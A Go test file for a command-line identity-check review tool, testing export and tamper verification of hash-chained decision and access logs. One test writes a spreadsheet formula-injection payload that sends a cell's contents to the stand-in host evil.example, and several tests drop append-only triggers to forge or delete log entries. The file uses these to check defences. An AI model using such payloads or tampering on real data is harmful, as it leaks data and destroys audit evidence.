package cli

import (
	"bytes"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/caisson-review/caisson-review/caisson"
	"github.com/caisson-review/caisson-review/caisson/sandbox"

	_ "modernc.org/sqlite"
)

// awkwardCustomer is a customer id as integrators really write them, and
// worse: commas, quotes, a doubled quote, a leading space.
const awkwardCustomer = ` 1234321 - Doe, "Jamie", ""J"", a,b,,c "`

// seedAwkwardCheck tracks a check whose cached result carries
// awkwardCustomer, as if the API had sent it.
func seedAwkwardCheck(t *testing.T, f *fixture, id string) {
	t.Helper()
	cust, _ := json.Marshal(awkwardCustomer)
	body := fmt.Sprintf(`{"check_id": %q, "customer_id": %s, "checked_on": "2026-07-19T15:00:42-04:00",
		"confidence": {"document": "high", "face": "medium", "reasons": [{"code": 201, "description": "x"}]},
		"info": {"first_name": "JAMIE", "last_name": "DOE", "expires_on": "2031-01-01T00:00:00Z"}}`, id, cust)
	chk, err := caisson.DecodeCheck([]byte(body))
	if err != nil {
		t.Fatalf("decoding the crafted body: %v", err)
	}
	f.must(0, "add", id)
	st := f.openStore()
	if err := st.RecordFetch(t.Context(), id, chk, nil, time.Now()); err != nil {
		t.Fatalf("recording the crafted result: %v", err)
	}
}

func decideAFew(t *testing.T, f *fixture, id string) {
	t.Helper()
	f.must(0, "decide", id, "escalate", "--note", "looks \"odd\", see ticket 7,\nsecond line")
	f.must(0, "decide", id, "reopen")
	f.must(0, "--reviewer", "bob", "decide", id, "approve", "--note", "fine")
}

func TestExportCSVRoundTripsACustomerIDFullOfCommasAndQuotes(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	decideAFew(t, f, id)

	r := f.must(0, "export", "--format", "csv")
	if !strings.Contains(r.stdout, "\r\n") {
		t.Errorf("RFC 4180 wants CRLF line ends:\n%q", r.stdout)
	}
	records, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not valid CSV: %v\n%s", err, r.stdout)
	}
	// The columns scripts read by position come first, as before; the
	// four-eyes and reason columns were added after them.
	if got := strings.Join(records[0], ","); got != "seq,check_id,customer_id,action,note,reviewer,time,response_hash,prev_hash,hash,"+
		"identity,reason,finality,proposes,ref,old_value,new_value,hash_version,stale" {
		t.Fatalf("header: %s", got)
	}
	if len(records) != 4 {
		t.Fatalf("want a header and 3 decisions, got %d records", len(records))
	}
	wantActions := []string{"escalate", "reopen", "approve"}
	wantReviewers := []string{"alice", "alice", "bob"}
	for i, rec := range records[1:] {
		if rec[0] != fmt.Sprint(i+1) || rec[1] != id || rec[2] != awkwardCustomer || rec[3] != wantActions[i] || rec[5] != wantReviewers[i] {
			t.Errorf("record %d: got %q", i+1, rec)
		}
		if _, err := time.Parse(time.RFC3339Nano, rec[6]); err != nil {
			t.Errorf("record %d: time %q is not RFC 3339: %v", i+1, rec[6], err)
		}
		if len(rec[9]) != 64 || (i > 0 && rec[8] != records[i][9]) {
			t.Errorf("record %d: the hash chain is not what was stored: prev %q, hash %q", i+1, rec[8], rec[9])
		}
	}
	// The note's newline is escaped for the terminal, its quotes kept.
	if got := records[1][4]; got != `looks "odd", see ticket 7,^Jsecond line` {
		t.Errorf("note: got %q", got)
	}
}

func TestExportJSONKeepsEveryStringExact(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	decideAFew(t, f, id)

	r := f.must(0, "export", "--format", "json")
	var got []decisionJSON
	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, r.stdout)
	}
	if len(got) != 3 {
		t.Fatalf("want 3 decisions, got %d", len(got))
	}
	if got[0].CustomerID != awkwardCustomer || got[0].Note != "looks \"odd\", see ticket 7,\nsecond line" || got[2].Reviewer != "bob" {
		t.Errorf("got %+v", got[0])
	}
	if got[0].ResponseHash == "" || got[1].PrevHash != got[0].Hash || got[2].PrevHash != got[1].Hash {
		t.Errorf("hashes do not chain: %+v", got)
	}

	// --since after every decision: an empty log, still valid JSON.
	r = f.must(0, "export", "--format", "json", "--since", time.Now().Add(time.Hour).UTC().Format(time.RFC3339))
	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil || len(got) != 0 {
		t.Errorf("--since in the future: want [], got %q (%v)", r.stdout, err)
	}
	r = f.must(0, "export", "--since", "2000-01-01")
	if n := strings.Count(r.stdout, "\r\n"); n != 4 {
		t.Errorf("--since 2000-01-01: want 4 CSV lines, got %d", n)
	}
}

func TestExportVerify(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	decideAFew(t, f, id)

	r := f.must(0, "export", "--verify")
	mustContain(t, "stdout", r.stdout, "decision log intact: 3 entries")

	// Tamper as someone with the file would: around the store's trigger.
	editBehindTheLog(t, f.db, "DROP TRIGGER decisions_no_update", "UPDATE decisions SET reviewer = 'mallory' WHERE seq = 2")
	r = f.must(1, "export", "--verify")
	mustContain(t, "stderr", r.stderr, "decision log BROKEN at entry 2 of 3")
}

func TestExportUsageErrors(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	for name, args := range map[string][]string{
		"unknown format":  {"export", "--format", "xml"},
		"a bad date":      {"export", "--since", "yesterday"},
		"a stray word":    {"export", "now"},
		"a missing value": {"export", "--format"},
	} {
		t.Run(name, func(t *testing.T) {
			if r := f.run(args...); r.code != 2 {
				t.Fatalf("want exit 2, got\n%s", r)
			}
		})
	}
}

func TestExportCSVDefusesSpreadsheetFormulas(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	f.must(0, "add", id)
	f.must(0, "refresh", id)
	f.must(0, "decide", id, "escalate", "--note", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "--reviewer", "@mallory")
	r := f.must(0, "export", "--format", "csv")
	records, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	note, reviewer := records[1][4], records[1][5]
	if note != `'=HYPERLINK("http://evil.example/?"&A1,"click")` || reviewer != "'@mallory" {
		t.Errorf("a field starting with = or @ must be quoted as text: note %q, reviewer %q", note, reviewer)
	}
	// JSON is for programs: it keeps the note exact.
	r = f.must(0, "export", "--format", "json")
	mustContain(t, "json", r.stdout, `"note": "=HYPERLINK(`)
}

// headRE is a head as the CLI prints it after "decision log head ".
var headRE = regexp.MustCompile(`decision log head (\d+:[0-9a-f]{64})\n`)

// loggedHead is the head a command reported on standard error.
func loggedHead(t *testing.T, r result) string {
	t.Helper()
	m := headRE.FindStringSubmatch(r.stderr)
	if m == nil {
		t.Fatalf("no decision log head on standard error:\n%s", r)
	}
	return m[1]
}

func TestEveryDecisionLogsItsSeqAndHashOnStderr(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	for i, args := range [][]string{{"escalate", "--note", "why"}, {"reopen"}} {
		r := f.must(0, append([]string{"decide", id}, args...)...)
		head, err := f.openStore().Head(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if got := loggedHead(t, r); got != head.String() || head.Seq != int64(i+1) {
			t.Errorf("decision %d logged head %s, the log's head is %s", i+1, got, head)
		}
		mustContain(t, "stdout", r.stdout, fmt.Sprintf("decision #%d", i+1))
	}
}

// The head comes after the export on standard error, so standard output
// is exactly the CSV or JSON it was; --head prints it alone.
func TestExportEndsWithTheHeadWithoutChangingItsCSVOrJSON(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	decideAFew(t, f, id)

	r := f.must(0, "export", "--format", "csv")
	records, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil || len(records) != 4 {
		t.Fatalf("CSV with the head: %d records, %v\n%s", len(records), err, r.stdout)
	}
	last := records[3]
	if want := last[0] + ":" + last[9]; loggedHead(t, r) != want {
		t.Errorf("export logged head %s; its last row is %s", loggedHead(t, r), want)
	}
	r = f.must(0, "export", "--format", "json")
	var got []decisionJSON
	if err := json.Unmarshal([]byte(r.stdout), &got); err != nil || len(got) != 3 {
		t.Fatalf("JSON with the head is no longer an array of 3: %v\n%s", err, r.stdout)
	}
	if want := fmt.Sprintf("%d:%s", got[2].Seq, got[2].Hash); loggedHead(t, r) != want {
		t.Errorf("JSON export logged head %s, want %s", loggedHead(t, r), want)
	}
	r = f.must(0, "export", "--head")
	if want := fmt.Sprintf("%d:%s\n", got[2].Seq, got[2].Hash); r.stdout != want || r.stderr != "" {
		t.Errorf("export --head printed %q (stderr %q), want %q", r.stdout, r.stderr, want)
	}
}

// cutTail deletes the newest entry and sets its check's status back, then
// puts the triggers back exactly as shipped: the tampering no chain can
// see by itself.
func cutTail(t *testing.T, f *fixture, id, status string) {
	t.Helper()
	db, err := sql.Open("sqlite", f.db)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for _, q := range []string{
		"DROP TRIGGER decisions_no_delete",
		"DELETE FROM decisions WHERE seq = (SELECT max(seq) FROM decisions)",
		"UPDATE checks SET status = '" + status + "' WHERE check_id = '" + id + "'",
		"CREATE TRIGGER decisions_no_delete BEFORE DELETE ON decisions BEGIN\n" +
			"    SELECT RAISE(ABORT, 'the decision log is append-only: entries cannot be deleted');\nEND",
	} {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
}

func TestExportVerifyWithAKeptHeadSeesTheTailCutOff(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	f.must(0, "decide", id, "escalate", "--note", "ask compliance")
	older := loggedHead(t, f.must(0, "decide", id, "reopen"))
	kept := loggedHead(t, f.must(0, "decide", id, "reject", "--note", "forged"))

	r := f.must(0, "export", "--verify", "--head", older, "--head="+kept)
	mustContain(t, "stdout", r.stdout, "decision log intact: 3 entries", "every head given is in it", "head "+kept)

	cutTail(t, f, id, "open")
	r = f.must(0, "export", "--verify")
	mustContain(t, "stdout without a head (no chain sees its own tail cut off)", r.stdout, "intact: 2 entries")
	f.must(0, "export", "--verify", "--head", older)
	r = f.must(1, "export", "--verify", "--head", kept)
	mustContain(t, "stderr", r.stderr, "MISSING A KEPT HEAD", "the log ends at entry 2 but head "+kept+" was kept", "entries 3 to 3 are gone")
}

func TestExportHeadUsageErrors(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	seedAwkwardCheck(t, f, f.sb.CheckID(0))
	hash := strings.Repeat("0", 64)
	for name, tt := range map[string]struct {
		args []string
		want string
	}{
		"a head that is not SEQ:HASH":    {[]string{"export", "--verify", "--head", "42"}, "expected SEQ:HASH"},
		"a shortened hash":               {[]string{"export", "--verify", "--head", "4:" + hash[:12]}, "64-hex-digit"},
		"a head to check without verify": {[]string{"export", "--head", "4:" + hash}, "add --verify"},
		"verify with a bare head":        {[]string{"export", "--verify", "--head"}, "needs the head to check"},
		"verify with a format":           {[]string{"export", "--verify", "--format", "json"}, "--format shapes an export, and --verify or --head writes none"},
		"a printed head with a since":    {[]string{"export", "--head", "--since", "2026-01-01"}, "--since shapes an export"},
	} {
		t.Run(name, func(t *testing.T) {
			r := f.run(tt.args...)
			if r.code != 2 || !strings.Contains(r.stderr, tt.want) {
				t.Fatalf("want exit 2 saying %q, got\n%s", tt.want, r)
			}
		})
	}
}

// editCachedResponse raises the cached document confidence of id to high
// with raw SQL, leaving raw_hash as it was.
func editCachedResponse(t *testing.T, f *fixture, id string) {
	t.Helper()
	db, err := sql.Open("sqlite", f.db)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var raw []byte
	if err := db.QueryRow("SELECT raw FROM checks WHERE check_id = ?", id).Scan(&raw); err != nil {
		t.Fatal(err)
	}
	var body map[string]any
	if err := json.Unmarshal(raw, &body); err != nil {
		t.Fatal(err)
	}
	body["confidence"].(map[string]any)["document"] = "high"
	edited, _ := json.Marshal(body)
	if _, err := db.Exec("UPDATE checks SET raw = ?, document = 3 WHERE check_id = ?", edited, id); err != nil {
		t.Fatal(err)
	}
}

func TestShowAndExportMarkADecisionStaleWhenItsCachedResponseIsEdited(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	f.must(0, "decide", id, "approve", "--yes")
	r := f.must(0, "show", id, "--json")
	if strings.Contains(r.stdout, `"stale": true`) {
		t.Fatalf("a decision on the cached response is stale before any edit:\n%s", r.stdout)
	}

	editCachedResponse(t, f, id)
	r = f.must(0, "show", id, "--json")
	var shown showJSON
	if err := json.Unmarshal([]byte(r.stdout), &shown); err != nil {
		t.Fatal(err)
	}
	if shown.Result == nil || shown.Result.Document != "high" || len(shown.Decisions) != 1 || !shown.Decisions[0].Stale {
		t.Errorf("show --json after the edit: document %v, decisions %+v; want high and the decision stale", shown.Result, shown.Decisions)
	}
	mustContain(t, "show", f.must(0, "show", id).stdout, "(the result has changed since)")
	r = f.must(0, "export", "--format", "json")
	var exported []decisionJSON
	if err := json.Unmarshal([]byte(r.stdout), &exported); err != nil || len(exported) != 1 || !exported[0].Stale {
		t.Errorf("export after the edit: %+v (%v), want the decision stale", exported, err)
	}
	// The CSV says so too, in its last column (it had no such column).
	records, err := csv.NewReader(strings.NewReader(f.must(0, "export", "--format", "csv").stdout)).ReadAll()
	if err != nil || len(records) != 2 || records[0][len(records[0])-1] != "stale" || records[1][len(records[1])-1] != "true" {
		t.Errorf("CSV export after the edit: %q (%v), want the last column stale, true", records, err)
	}
}

func TestADroppedTriggerFailsVerifyAndWarnsOnEveryOpenOnStderr(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	decideAFew(t, f, id)
	if r := f.must(0, "list", "--queue", "all", "--json"); strings.Contains(r.stderr, "WARNING") {
		t.Fatalf("a sound database warned:\n%s", r)
	}
	db, err := sql.Open("sqlite", f.db)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("DROP TRIGGER decisions_no_delete"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("DROP TRIGGER access_no_delete"); err != nil {
		t.Fatal(err)
	}
	db.Close()

	r := f.must(1, "export", "--verify")
	mustContain(t, "stderr", r.stderr, "decision log UNPROTECTED: the trigger decisions_no_delete is missing",
		"access log UNPROTECTED: the trigger access_no_delete is missing")
	for _, args := range [][]string{{"list", "--queue", "all", "--json"}, {"show", id, "--json"}, {"export", "--format", "json"}} {
		r := f.must(0, args...)
		mustContain(t, fmt.Sprint(args, " stderr"), r.stderr, "WARNING", "decisions_no_delete is missing")
		var v any
		if err := json.Unmarshal([]byte(r.stdout), &v); err != nil {
			t.Errorf("%v: standard output is no longer JSON with the warning: %v\n%s", args, err, r.stdout)
		}
	}
}

// A cached response damaged so that it no longer decodes does not stop the
// export of the decision log: the decision on it is exported, with its
// customer, and marked stale.
func TestExportOfTheLogSurvivesACachedResponseThatNoLongerDecodes(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	f.must(0, "decide", id, "approve", "--yes")
	customer := f.get(id).CustomerID
	undecodable(t, f, id)

	r := f.must(0, "export", "--format", "json")
	var exported []decisionJSON
	if err := json.Unmarshal([]byte(r.stdout), &exported); err != nil || len(exported) != 1 {
		t.Fatalf("export: %v\n%s", err, r)
	}
	if exported[0].CustomerID != customer || !exported[0].Stale {
		t.Errorf("exported %+v: want customer %q and the decision stale", exported[0], customer)
	}
	mustContain(t, "CSV export", f.must(0, "export").stdout, id)

	// Nor does it stop a reviewer from rejecting or escalating the check;
	// approving without --yes needs the result read, and says why not.
	f.must(0, "decide", id, "escalate", "--note", "the cached result is damaged")
	r = f.must(1, "decide", id, "approve")
	mustContain(t, "approve", r.stderr, "checking whether "+id+" is risky to approve", "no longer decodes")
}

// fullDisk fails every write as a full disk does.
type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, syscall.ENOSPC }

// Output that could not be written is a failure: `export --head >>
// heads.txt` on a full disk must not exit 0 with the witness lost, and the
// error names the head so it can still be copied.
func TestOutputThatCannotBeWrittenIsAFailure(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	f.must(0, "add", id)
	f.must(0, "decide", id, "escalate", "--note", "look")
	head := strings.TrimSpace(f.must(0, "export", "--head").stdout)
	for _, c := range []struct {
		args         []string
		stdout       io.Writer
		stderr, want string
	}{
		{[]string{"export", "--head"}, fullDisk{}, "", "writing the head " + head + ": no space left on device"},
		{[]string{"show", id}, fullDisk{}, "", "writing " + id + ": no space left on device"},
	} {
		var errOut bytes.Buffer
		code := run(t.Context(), c.args, strings.NewReader(""), c.stdout, &errOut, func(k string) string { return f.env[k] })
		if code != 1 || !strings.Contains(errOut.String(), c.want) {
			t.Errorf("%v on a full disk: exit %d, stderr %q; want exit 1 saying %q", c.args, code, errOut.String(), c.want)
		}
	}
	// The head an export ends with, on a standard error that is full.
	code := run(t.Context(), []string{"export"}, strings.NewReader(""), io.Discard, fullDisk{}, func(k string) string { return f.env[k] })
	if code != 1 {
		t.Errorf("export whose head could not be written: exit %d, want 1", code)
	}
}

// An empty log is written "[]", as list --json writes an empty list, by
// both exports of a log (it was "[\n]"; helper-57); a log with entries
// stays one indented element a line, and parses.
func TestAnEmptyLogIsWrittenAsAnEmptyJSONArray(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	ids := refreshed(t, f, 2)
	if r := f.must(0, "export", "--format", "json"); r.stdout != "[]\n" {
		t.Errorf("export of an empty log: %q", r.stdout)
	}
	if r := f.must(0, "access", "--format", "json", "--check", ids[0]); r.stdout != "[]\n" {
		t.Errorf("access of a check never shown: %q", r.stdout)
	}
	f.must(0, "decide", ids[0], "escalate", "--note", "ask the branch")
	f.must(0, "show", ids[0])
	for _, args := range [][]string{{"export", "--format", "json"}, {"access", "--format", "json"}} {
		r := f.must(0, args...)
		var got []map[string]any
		if err := json.Unmarshal([]byte(r.stdout), &got); err != nil || len(got) == 0 || !strings.HasPrefix(r.stdout, "[\n  {") {
			t.Errorf("%v: %d entries, %v:\n%s", args, len(got), err, r.stdout)
		}
	}
}

// A database file emptied (`: > review.db`) verified as "decision log
// intact: 0 entries", and the verify wrote a new schema into it: the
// evidence overwritten, the wiping passed (helper-72). It is refused, the
// file left as it was.
func TestExportVerifyRefusesAnEmptiedDatabase(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	for _, args := range [][]string{{"export", "--verify"}, {"export", "--head"}, {"export"}, {"export", "--format", "json"}} {
		if err := os.WriteFile(f.db, nil, 0o600); err != nil {
			t.Fatal(err)
		}
		r := f.must(1, args...)
		mustContain(t, "stderr", r.stderr, f.db+" is empty: it holds no review database, so no decision log to export or verify")
		if strings.Contains(r.stdout, "intact") {
			t.Errorf("%v: an emptied file passed:\n%s", args, r)
		}
		if info, err := os.Stat(f.db); err != nil || info.Size() != 0 {
			t.Errorf("%v: the emptied file was written to: %v, %v", args, info.Size(), err)
		}
	}
}

// An export is what compliance files, next to the head it ends with: a
// log edited behind the program's back was exported, exit 0, beside its
// head (helper-72). It is still written whole, for whoever investigates,
// but said broken, and the export fails.
func TestExportOfALogThatDoesNotVerifyFails(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	decideAFew(t, f, id)
	f.must(0, "export")
	editBehindTheLog(t, f.db, "DROP TRIGGER decisions_no_update", "UPDATE decisions SET reviewer = 'mallory' WHERE seq = 2",
		// Put back as shipped: only the chain can tell.
		"CREATE TRIGGER decisions_no_update BEFORE UPDATE ON decisions BEGIN\n"+
			"    SELECT RAISE(ABORT, 'the decision log is append-only: entries cannot be changed');\nEND")
	for _, format := range []string{"csv", "json"} {
		r := f.must(1, "export", "--format", format)
		mustContain(t, "stderr", r.stderr, "decision log BROKEN at entry 2 of 3", "the decision log exported does not verify")
		if !strings.Contains(r.stdout, "mallory") || (format == "csv" && strings.Count(r.stdout, "\r\n") != 4) {
			t.Errorf("%s: the export was not written whole:\n%s", format, r.stdout)
		}
	}
}

// editBehindTheLog runs statements on the database file directly, as
// someone who can write it would.
func editBehindTheLog(t *testing.T, path string, stmts ...string) {
	t.Helper()
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for _, q := range stmts {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
}

// export --verify walks the access log's chain too (migration 19): a
// record of who viewed whose data changed behind the program's back, the
// triggers put back, fails it (helper-72: it passed).
func TestExportVerifyWalksTheAccessLog(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	id := f.sb.CheckID(0)
	seedAwkwardCheck(t, f, id)
	f.must(0, "show", id)
	f.must(0, "--reviewer", "bob", "show", id)
	r := f.must(0, "export", "--verify")
	mustContain(t, "stdout", r.stdout, "decision log intact: 0 entries", "\naccess log intact: 2 records, hash chain holds; head 2:")
	head := regexp.MustCompile(`access log intact: .*; head (2:[0-9a-f]{64})\n`).FindStringSubmatch(r.stdout)
	if head == nil {
		t.Fatalf("no access head to keep in:\n%s", r.stdout)
	}
	r = f.must(0, "export", "--verify", "--access-head", head[1])
	mustContain(t, "stdout", r.stdout, "access log intact: 2 records, hash chain holds, every head given is in it")
	for _, args := range [][]string{{"export", "--access-head", head[1]}, {"export", "--verify", "--access-head", "2:nothex"}} {
		if r := f.run(args...); r.code != 2 {
			t.Errorf("%v: want a usage error, got\n%s", args, r)
		}
	}

	edited := filepath.Join(t.TempDir(), "edited.db")
	for _, suffix := range []string{"", "-wal"} {
		if err := copyFile(f.db+suffix, edited+suffix); err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
	}
	editBehindTheLog(t, edited, "DROP TRIGGER access_no_update", "UPDATE access SET reviewer = 'alice' WHERE id = 2",
		"CREATE TRIGGER access_no_update BEFORE UPDATE ON access BEGIN\n"+
			"    SELECT RAISE(ABORT, 'the access log is append-only: records cannot be changed');\nEND")
	r = f.must(1, "--db", edited, "export", "--verify")
	mustContain(t, "stderr", r.stderr, "access log BROKEN at record id 2 (2 records in all): its content does not match its hash (the record was edited)")
	// A plain export says so too, and fails (helper-76: exit 0, silent).
	r = f.must(1, "--db", edited, "export")
	mustContain(t, "stderr", r.stderr, "access log BROKEN at record id 2", "the access log does not verify")

	// Cut off its end, the chain holds; the head kept does not.
	editBehindTheLog(t, f.db, "DROP TRIGGER access_no_delete", "DELETE FROM access WHERE id = 2",
		"CREATE TRIGGER access_no_delete BEFORE DELETE ON access BEGIN\n"+
			"    SELECT RAISE(ABORT, 'the access log is append-only: records cannot be deleted');\nEND")
	f.must(0, "export", "--verify")
	r = f.must(1, "export", "--verify", "--access-head", head[1])
	mustContain(t, "stderr", r.stderr, "access log MISSING A KEPT HEAD: the log ends at record 1 but head "+head[1]+" was kept: records 2 to 2 are gone")
}

// An emptied file with a -wal file beside it, or another program's
// SQLite database, verified as "intact: 0 entries" and was written a new
// schema (helper-76): each is refused and left byte for byte as it was.
func TestExportRefusesWhatIsNoReviewDatabase(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	dir := t.TempDir()
	emptied := filepath.Join(dir, "emptied.db")
	os.WriteFile(emptied, nil, 0o600)
	os.WriteFile(emptied+"-wal", []byte("junk left by a crash"), 0o600)
	other := filepath.Join(dir, "other.db")
	db, err := sql.Open("sqlite", other)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("CREATE TABLE notes (body TEXT); INSERT INTO notes VALUES ('not ours')"); err != nil {
		t.Fatal(err)
	}
	db.Close()
	for path, want := range map[string]string{emptied: "is empty: it holds no review database", other: "it is not a caisson-review database"} {
		before, _ := os.ReadFile(path)
		for _, args := range [][]string{{"export", "--verify"}, {"export"}, {"export", "--head"}} {
			r := f.must(1, append([]string{"--db", path}, args...)...)
			mustContain(t, "stderr", r.stderr, want)
			if strings.Contains(r.stdout, "intact") {
				t.Errorf("%v on %s passed:\n%s", args, filepath.Base(path), r)
			}
		}
		if after, _ := os.ReadFile(path); !bytes.Equal(before, after) {
			t.Errorf("%s was written to", filepath.Base(path))
		}
	}
}

// A trigger of neither log is said as the database's, not the decision
// log's (helper-77: a count's trigger dropped read "decision log
// UNPROTECTED").
func TestVerifySaysTheDatabasesOwnTriggers(t *testing.T) {
	f := newFixture(t, sandbox.Options{})
	f.must(0, "add", f.sb.CheckID(0))
	var name string
	db, err := sql.Open("sqlite", f.db)
	if err != nil {
		t.Fatal(err)
	}
	if err := db.QueryRow("SELECT name FROM sqlite_schema WHERE type = 'trigger' AND tbl_name = 'checks' ORDER BY name LIMIT 1").Scan(&name); err != nil {
		t.Fatal(err)
	}
	db.Close()
	editBehindTheLog(t, f.db, "DROP TRIGGER "+name)
	r := f.must(1, "export", "--verify")
	mustContain(t, "stderr", r.stderr, "database UNPROTECTED: the trigger "+name+" is missing (dropped?)")
	if strings.Contains(r.stderr, "decision log UNPROTECTED") {
		t.Errorf("said of the decision log:\n%s", r.stderr)
	}
}
